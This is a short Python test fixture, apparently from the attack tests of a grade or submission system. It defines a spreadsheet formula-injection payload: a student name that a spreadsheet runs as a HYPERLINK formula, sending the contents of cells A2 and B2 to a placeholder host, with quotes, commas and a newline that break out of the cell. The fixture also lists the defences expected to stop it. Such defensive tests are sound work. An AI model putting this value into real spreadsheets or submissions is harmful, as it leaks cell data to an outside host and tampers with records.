"""Submit under a name that a spreadsheet runs as a formula, with quotes and commas that end a cell."""

ATTACK = {
    "honest": 5,
    "stopped_by": ["text", "intake"],
    "student": '=HYPERLINK("https:example.invalid?"&A2&B2,"Mallory"),20,"\n=1+1',
}
from tests.attacks.prelude import honest, target
